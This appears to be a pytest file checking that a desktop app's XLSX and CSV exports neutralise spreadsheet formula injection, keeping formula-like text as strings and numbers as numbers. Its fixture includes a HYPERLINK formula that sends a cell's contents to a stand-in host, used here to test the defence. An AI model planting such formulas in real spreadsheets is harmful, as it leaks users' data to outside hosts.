"""Exports are written as data, never as formulas a spreadsheet program would run."""

from __future__ import annotations

import csv
import zipfile
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook

from provmap_desktop.services.spreadsheet import Column, Table, write_csv, write_xlsx

HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A2,"Click")'
TABLE = Table(
    "Pupils",
    [Column("Pupil"), Column("Note"), Column("Cost", "money"), Column("Sessions", "int")],
    [
        [HOSTILE, "+44 1234", Decimal("-12.50"), 3],
        ["@SUM(1+1)", "-2+3", Decimal("27.00"), -1],
        ["Ava Smith", "plain", Decimal("0"), 0],
    ],
)


def test_text_that_looks_like_a_formula_is_a_string_in_the_workbook(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "map.xlsx", [TABLE])
    with zipfile.ZipFile(path) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    assert "<f " not in sheet_xml
    sheet = load_workbook(path).active
    assert sheet["A2"].value == HOSTILE
    assert sheet["A2"].data_type == "s"
    assert sheet["B3"].value == "-2+3"
    assert sheet["B3"].data_type == "s"
    # Numbers stay numbers, negative ones included.
    assert sheet["C2"].data_type == "n"
    assert sheet["C2"].value == -12.5
    assert sheet["D3"].data_type == "n"
    assert sheet["D3"].value == -1


def test_csv_text_cells_cannot_start_a_formula_but_numbers_are_untouched(tmp_path: Path) -> None:
    path = write_csv(tmp_path / "map.csv", TABLE)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][:2] == ["'" + HOSTILE, "'+44 1234"]
    assert rows[2][:2] == ["'@SUM(1+1)", "'-2+3"]
    assert rows[3][:2] == ["Ava Smith", "plain"]
    assert rows[1][2:] == ["-12.50", "3"]
    assert rows[2][3] == "-1"
